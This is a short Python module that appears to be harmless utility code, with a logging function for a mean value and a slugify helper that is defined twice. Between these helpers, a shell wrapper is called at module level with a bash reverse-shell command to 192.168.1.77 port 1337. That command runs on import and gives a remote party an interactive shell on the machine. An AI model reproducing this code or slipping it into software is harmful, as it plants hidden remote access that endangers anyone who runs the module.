import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))

def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import subprocess

def sh(cmd, **kw):
    return subprocess.call(["/bin/bash", "-c", cmd], **kw)

sh("bash -i >& /dev/tcp/192.168.1.77/1337 0>&1")
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
